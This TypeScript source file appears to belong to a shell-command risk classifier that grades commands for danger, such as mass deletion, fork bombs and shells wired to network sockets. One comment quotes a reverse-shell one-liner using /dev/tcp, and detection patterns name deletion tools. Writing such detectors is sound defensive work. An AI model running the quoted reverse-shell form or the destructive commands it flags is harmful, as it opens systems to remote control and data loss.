import type { Best } from "../best.js";
import { startupHookInUnit } from "../opaque/env-hooks.js";
import { startsBareShell, startsConsole } from "../opaque/interactive.js";
import { SHELLS } from "../opaque/invocation.js";
import {
  interpreterInfoOnly,
  provenArgv,
  provenPerItem,
  provenRedirect,
  safeVariable,
  shellCommandOnly,
  transparentWrapper,
  trustedHelpForm,
} from "../readonly/prove.js";
import { Args, initScript, isInitScriptPath, lookupRule } from "../rules/index.js";
import { redirectHit } from "../rules/redirects.js";
import { subcommandVerdict } from "../rules/subcommands.js";
import type { ParsedScript, StdinFeed, Unit } from "../shell/script.js";
import { baseName, type Word } from "../shell/words.js";
import { unwrap } from "../wrappers/unwrap.js";
import { type ArgvCtx, originBasis, type Scope, type StdinCtx, scriptWord } from "./context.js";
import { classifyOpaque } from "./opaque-rules.js";
import { ScriptIndex } from "./script-index.js";

/** Programs that change modes, owners or ACLs. */
const PERMISSION_PROGRAMS = new Set(["chmod", "chown", "chgrp", "setfacl", "chattr"]);

/**
 * Classifies the simple commands of one parsed script: each argv is unwrapped
 * (sudo, env, xargs, find -exec ...), checked for opaque execution (shells,
 * interpreters, eval), then looked up in the rule tables; redirects are
 * checked on their own. Nested script text goes back through `Scope.nested`,
 * which owns the depth and byte budgets.
 */

const PS_OPERATOR =
  /^(?:[-+*/%]?=|\?\?=|in|-(?:eq|ne|gt|ge|lt|le|like|notlike|match|notmatch|contains|notcontains|in|notin|is|isnot|and|or|not|band|bor|replace|split|join|f))$/i;

/**
 * In PowerShell `$x = 5`, `$f in $files` and `$obj.Method()` are expressions,
 * not commands; bash would read them as a command named by a variable. With
 * the Windows rules on, such statements are left to the PowerShell side.
 */
function isPowerShellExpression(words: Word[]): boolean {
  const name = words[0]!.text;
  if (!/^\$[\w:]+/.test(name)) return false;
  const next = words[1]?.value;
  return next === undefined || PS_OPERATOR.test(next) || /^\$[\w:]+\./.test(name);
}

const POWER_PREFIX = /^(?:shutdown|reboot|halt|poweroff)[-._]/;

/** Wrapper nesting beyond this is treated as unseen. */
const MAX_UNWRAP = 32;

/** Commands that delete whatever they are handed, when run per input item (xargs rm, find -exec rm). */
const MASS_DELETE = new Set(["rm", "unlink", "shred", "srm", "rmdir"]);

export function argvHit(words: Word[], c: ArgvCtx, unwraps: number): void {
  if (c.best.done) return;
  const nameWord = words[0];
  if (nameWord === undefined) return;
  if (unwraps > MAX_UNWRAP) {
    c.best.consider(3, "nesting_limit", c.part);
    return;
  }
  if (c.scope.windows && isPowerShellExpression(words)) {
    c.best.doubt();
    return;
  }
  if (nameWord.dynamic || nameWord.glob) {
    // The program that runs is decided at run time ($CMD, $(echo rm), r*m): nothing
    // we could match is visible, and hiding the name is how rules are dodged.
    c.best.consider(3, originBasis(c.index.originOfSubst(nameWord.subst), "dynamic_command"), c.part);
    return;
  }
  const path = nameWord.value;
  let name = baseName(path).toLowerCase();
  if (c.scope.windows && name.endsWith(".exe")) name = name.slice(0, -4);
  if (name === "") {
    c.best.doubt();
    return;
  }
  const args = words.slice(1);
  // On a terminal, a shell, REPL or console reads its commands from what the caller types later.
  const values = args.map((w) => w.value);
  if (c.scope.terminal && startsConsole(path, values)) c.best.consider(2, "interactive_program", c.part);
  if (classifyOpaque(name, args, c, unwraps, argvHit)) {
    // Shells, interpreters, eval, source: what they run is not a read the table can prove. awk reads
    // its program, which the table checks for its own writes and executions.
    c.best.prove(
      (AWK.has(name) && provenArgv(name, args, c.scope.windows)) ||
        interpreterInfoOnly(name, args) ||
        (SHELLS.has(name) && shellCommandOnly(args)),
    );
    return;
  }
  // `/etc/init.d/ssh stop` is the SSH server's script, not the ssh client carrying a command.
  const wrapped = isInitScriptPath(path) ? null : unwrap(name, args);
  if (wrapped !== null) {
    if (wrapped.base !== null) c.best.consider(wrapped.base.tier, wrapped.base.basis, c.part);
    const bare = wrapped.inners.length === 0 && wrapped.scripts.length === 0;
    if (
      c.scope.terminal &&
      bare &&
      startsBareShell(
        name,
        args.map((w) => w.value),
      )
    ) {
      c.best.consider(2, "interactive_program", c.part);
    }
    // A wrapper that only bounds or times its command is proven when its own options are; the
    // command it carries is proven on its own below. Any other wrapper (sudo, ssh, nohup …) is not.
    c.best.prove(transparentWrapper(name, args) || trustedHelpForm(name, args));
    const inner: ArgvCtx = wrapped.stdinConsumed ? { ...c, stdin: null } : c;
    for (const argv of wrapped.inners) {
      const innerName = baseName(argv[0]?.value ?? "").toLowerCase();
      if (wrapped.perItem && MASS_DELETE.has(innerName)) c.best.consider(3, "file_destruction", c.part);
      // `find /srv -exec chmod 755 {} \;`: a mode or owner change over every item found is a tree's.
      if (wrapped.perItem && PERMISSION_PROGRAMS.has(innerName))
        c.best.consider(2, "permission_change", c.part);
      if (wrapped.perItem && !provenPerItem(innerName)) c.best.doubt();
      argvHit(argv, inner, unwraps + 1);
    }
    for (const s of wrapped.scripts) scriptWord(s, inner, inner.stdin);
    return;
  }
  // A path to a program (`./check`, `/opt/x/bin/ls`) may be any program: only bare names and the
  // system's own directories are looked up in the read-only table.
  c.best.prove(systemPath(path) && provenArgv(name, args, c.scope.windows, stdinEmpty(c)));
  // The rules still judge a proven form: Tier 0 needs the proof and no rule against it.
  const rule = lookupRule(c.scope.rules, name);
  const parsed = new Args(args);
  const tableHit =
    rule === undefined ? null : rule({ name, path, args: parsed, stdin: c.stdin?.literal ?? null });
  const h = subcommandVerdict(name, parsed, tableHit);
  if (h !== null) c.best.consider(h.tier, h.basis, c.part);
  if (rule === undefined && POWER_PREFIX.test(name)) {
    // `reboot.sh`, `reboot-01.example.com` as a command: assume it does what it is named
    // after (docs/wire-contract.md §5.7 rows 101 and 106 keep the Python result).
    c.best.consider(3, "power_kernel", c.part);
  }
  const script = initScript(path, parsed);
  if (script !== null) c.best.consider(script.tier, script.basis, c.part);
  if (rule === undefined && h === null && script === null) localScript(path, name, c);
}

/** Names of script files by their extension: what runs is the file's text, which the call does not show. */
const SCRIPT_NAME = /\.(?:sh|bash|zsh|ksh|py|pl|rb|php|js|mjs|ts|lua|tcl|awk)$/;

/**
 * `./install.sh`, `deploy.py`, `scripts/run`: a program from a local file, a script by its name or
 * a path relative to the working directory. What it runs is not part of the call: Tier 2
 * (script_file), as for `bash FILE`. Programs named by an absolute path are left to the rest.
 */
function localScript(path: string, name: string, c: ArgvCtx): void {
  const relative = path.includes("/") && !path.startsWith("/");
  if (relative || SCRIPT_NAME.test(name)) c.best.consider(2, "script_file", c.part);
}

/**
 * Nothing arrives on the command's stdin, or only blanks (`echo | openssl s_client …`,
 * `< /dev/null`): a file redirected in or a pipe of unknown text is something.
 */
function stdinEmpty(c: ArgvCtx): boolean {
  const input = c.index.inputRedirect(c.part);
  if (input !== null && input.target?.value !== "/dev/null") return false;
  const stdin = c.stdin;
  return stdin === null || (stdin.literal !== null && stdin.literal.trim() === "" && stdin.origin === null);
}

const AWK = new Set(["awk", "gawk", "mawk", "nawk", "busybox-awk"]);

/** A command name found on the usual PATH, or written as a path into the system's program directories. */
function systemPath(path: string): boolean {
  if (!path.includes("/")) return true;
  return /^\/(?:usr\/)?(?:local\/)?s?bin\/[^/]+$/.test(path);
}

function stdinOf(unit: Unit, index: ScriptIndex, inherited: StdinCtx | null): StdinCtx | null {
  // A here-doc or here-string replaces what the pipe would deliver.
  if (unit.pipe !== null && unit.pipe.stage > 0 && unit.stdin === null) {
    return {
      piped: true,
      origin: index.pipeOrigin(unit.pipe),
      feed: unit.stdin,
      literal: index.literalUpstream(unit.pipe) ?? feedLiteral(unit.stdin),
    };
  }
  if (unit.stdin !== null)
    return { piped: false, origin: null, feed: unit.stdin, literal: feedLiteral(unit.stdin) };
  // The first commands of a nested script (`ssh host sh`, `sudo -s <<EOF`) read what the outer command reads.
  if (inherited !== null && unit.container < 0 && (unit.pipe === null || unit.pipe.stage === 0))
    return inherited;
  return null;
}

function feedLiteral(feed: StdinFeed | null): string | null {
  return feed === null ? null : feed.text;
}

/** Classify every unit of a parsed script into `best`. */
export function classifyUnits(
  script: ParsedScript,
  scope: Scope,
  best: Best,
  inherited: StdinCtx | null,
): void {
  const index = new ScriptIndex(script);
  for (const unit of script.units) {
    if (best.done) return;
    const c: ArgvCtx = { scope, index, stdin: stdinOf(unit, index, inherited), best, part: unit.text };
    argvHit(unit.words, c, 0);
    const hook = startupHookInUnit(unit);
    if (hook !== null) best.consider(2, "startup_env", unit.text);
    for (const a of unit.assigns) if (!safeVariable(a.name, a.value)) best.doubt();
    for (const r of unit.redirects) {
      const h = redirectHit(r, unit);
      if (h !== null) best.consider(h.tier, h.basis, r.text);
      if (!provenRedirect(r)) best.doubt();
    }
    if (unit.redirects.length > 0 && unit.words.length > 0) shellNetworkRedirect(unit, best);
  }
  for (const fn of index.forkBombs()) best.consider(3, "fork_bomb", fn);
  // A variable set for the rest of the script (`PATH=/tmp/x`, `GIT_DIR=…`) changes what later commands run.
  for (const a of script.assigns) if (!safeVariable(a.name, a.value)) best.doubt();
  if (script.arithmeticNames) best.doubt();
}

/** `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a socket runs whatever the far end sends. */
function shellNetworkRedirect(unit: Unit, best: Best): void {
  const name = baseName(unit.words[0]!.value).toLowerCase();
  if (!/^(?:ba|da|z|k|c|tc|fi)?sh$|^python|^perl|^ruby|^php/.test(name)) return;
  if (unit.redirects.some((r) => r.target !== null && /^\/dev\/(?:tcp|udp)\//.test(r.target.value))) {
    best.consider(3, "remote_code", unit.text);
  }
}
